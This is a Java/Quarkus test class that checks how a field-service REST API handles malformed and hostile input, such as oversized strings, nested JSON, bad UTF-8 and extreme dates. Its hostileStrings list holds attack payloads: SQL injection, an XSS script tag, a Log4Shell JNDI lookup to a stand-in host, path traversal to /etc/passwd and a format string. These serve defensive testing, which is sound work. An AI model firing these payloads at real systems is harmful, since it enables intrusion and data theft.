package io.fieldback.common;

import static io.fieldback.support.Tokens.admin;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

import io.fieldback.support.TestData;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/** Known-bad inputs: each is refused with a 4xx problem, none causes a 5xx, nothing leaks. */
@QuarkusTest
class BadInputCorpusTest {

    static List<String> hostileStrings() {
        return List.of("'; DROP TABLE customers; --", "\" OR 1=1 --", "<script>alert(1)</script>",
                "${jndi:ldap://evil/x}", "../../etc/passwd", "\u0000", "𠮷野家", "\uFEFF", "%s%s%s%n");
    }

    private static void assertProblemOrSuccess(Response response) {
        int status = response.statusCode();
        assertThat(status).as(response.asString()).isLessThan(500);
        if (status >= 400) {
            assertThat(response.contentType()).startsWith("application/problem+json");
        }
    }

    @ParameterizedTest
    @MethodSource("hostileStrings")
    void hostileStringsAreStoredVerbatimOrRefused(String hostile) {
        Map<String, Object> body = new java.util.HashMap<>(TestData.customer());
        body.put("name", hostile);
        Response created = admin().body(body).post("/api/v1/customers");
        assertProblemOrSuccess(created);
        if (created.statusCode() == 201) {
            assertThat(admin().get("/api/v1/customers/" + created.path("id")).jsonPath().getString("name"))
                    .isEqualTo(hostile);
        }
        assertProblemOrSuccess(admin().queryParam("namePrefix", hostile).get("/api/v1/customers"));
        assertProblemOrSuccess(admin().queryParam("province", hostile).get("/api/v1/customers"));
    }

    @Test
    void aMegabyteStringIsRefused() {
        Map<String, Object> body = new java.util.HashMap<>(TestData.customer());
        body.put("name", "名".repeat(400_000));
        Response response = admin().body(body).post("/api/v1/customers");
        assertThat(response.statusCode()).isIn(400, 413);
        assertThat(response.contentType()).startsWith("application/problem+json");
    }

    @Test
    void deeplyNestedJsonIsRefused() {
        String nested = "{\"a\":".repeat(5000) + "1" + "}".repeat(5000);
        Response response = admin().body(nested).post("/api/v1/customers");
        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
    }

    @Test
    void invalidUtf8IsRefused() {
        byte[] prefix = "{\"code\":\"X\",\"name\":\"".getBytes(StandardCharsets.UTF_8);
        byte[] bad = { (byte) 0xC3, (byte) 0x28, (byte) 0xFF };
        byte[] suffix = "\"}".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[prefix.length + bad.length + suffix.length];
        System.arraycopy(prefix, 0, body, 0, prefix.length);
        System.arraycopy(bad, 0, body, prefix.length, bad.length);
        System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
        Response response = admin().body(body).post("/api/v1/dealers");
        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
    }

    @Test
    void duplicateKeysAreRefused() {
        Response response = admin().body("{\"code\":\"D1\",\"code\":\"D2\",\"name\":\"x\"}").post("/api/v1/dealers");
        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("application/problem+json");
    }

    @Test
    void typeConfusionNeverFails() {
        List<Response> responses = new ArrayList<>();
        responses.add(admin().body("{\"code\": 123, \"name\": true}").post("/api/v1/dealers"));
        responses.add(admin().body("{\"code\": {\"a\": 1}, \"name\": [1]}").post("/api/v1/dealers"));
        responses.add(admin().body("{\"code\": null, \"name\": null}").post("/api/v1/dealers"));
        responses.add(admin().body("\"just a string\"").post("/api/v1/dealers"));
        responses.add(admin().body("12345").post("/api/v1/dealers"));
        responses.add(admin().body("null").post("/api/v1/dealers"));
        Map<String, Object> station = new java.util.HashMap<>(TestData.station(TestData.dealer(), 31, 121));
        station.put("latitude", "31.2");
        responses.add(admin().body(station).post("/api/v1/stations"));
        station.put("latitude", "north");
        responses.add(admin().body(station).post("/api/v1/stations"));
        responses.forEach(BadInputCorpusTest::assertProblemOrSuccess);
    }

    @Test
    void extremeDatesNeverFail() {
        List<Response> responses = new ArrayList<>();
        for (String date : List.of("0001-01-01", "1900-01-01", "1969-12-31", "9999-12-31", "2026-02-30", "-0001-01-01")) {
            String customer = admin().body(TestData.customer()).post("/api/v1/customers").path("id");
            responses.add(admin().body(Map.of("serialNumber", "SN" + System.nanoTime(), "productSeries", "YC6K",
                    "application", "TRUCK", "deliveryDate", date)).post("/api/v1/customers/" + customer + "/equipment"));
        }
        responses.forEach(BadInputCorpusTest::assertProblemOrSuccess);
    }

    @Test
    void extremeTimestampsNeverFail() {
        UUID dealer = TestData.dealer();
        UUID station = TestData.station(dealer);
        UUID customer = TestData.customer(dealer);
        List<Response> responses = new ArrayList<>();
        for (String at : List.of("1969-12-31T23:59:59Z", "1900-01-01T00:00:00Z", "0001-01-01T00:00:00Z",
                "9999-12-31T23:59:59Z", "+10000-01-01T00:00:00Z", "-1000000000-01-01T00:00:00Z", "2026-02-30T00:00:00Z",
                "2026-11-20T25:00:00Z", "1e10", "0")) {
            responses.add(admin().body(Map.of("customerId", customer.toString(), "stationId", station.toString(),
                    "type", "MAINTENANCE", "requestedAt", at)).put("/api/v1/visits/" + UuidV7.next()));
            responses.add(admin().queryParam("from", at).get("/api/v1/visits"));
            responses.add(admin().queryParam("dueFrom", at).get("/api/v1/followups"));
        }
        responses.forEach(BadInputCorpusTest::assertProblemOrSuccess);
    }

    @Test
    void numbersAsStringsAndStringsAsNumbersInQueriesAreRefused() {
        List<Response> responses = new ArrayList<>();
        for (String limit : List.of("abc", "1e3", "10.5", "0x10", "", " 5", "99999999999999999999", "-0")) {
            responses.add(admin().queryParam("limit", limit).get("/api/v1/customers"));
        }
        responses.add(admin().queryParam("latitude", "north").queryParam("longitude", "121.4").get("/api/v1/stations/nearest"));
        responses.add(admin().queryParam("latitude", "1e400").queryParam("longitude", "NaN").get("/api/v1/stations/nearest"));
        responses.add(admin().queryParam("doNotCall", "1").get("/api/v1/customers"));
        responses.add(admin().queryParam("month", "2026-13").get("/api/v1/complaints/figures"));
        responses.forEach(BadInputCorpusTest::assertProblemOrSuccess);
        assertThat(responses.get(0).statusCode()).isEqualTo(400);
    }

    @Test
    void hugeNumbersAndOversizedBulkArraysAreRefused() {
        String digits = "{\"code\":\"X\",\"name\":\"x\",\"latitude\":" + "9".repeat(900_000) + "}";
        assertProblemOrSuccess(admin().body(digits).post("/api/v1/stations"));
        String array = "{\"orders\":[" + "{},".repeat(300_000) + "{}]}";
        Response bulk = io.fieldback.support.Tokens.dealer(TestData.dealer()).body(array).put("/api/v1/dealer/repair-orders");
        assertProblemOrSuccess(bulk);
        assertThat(bulk.statusCode()).isBetween(400, 499);
    }
}
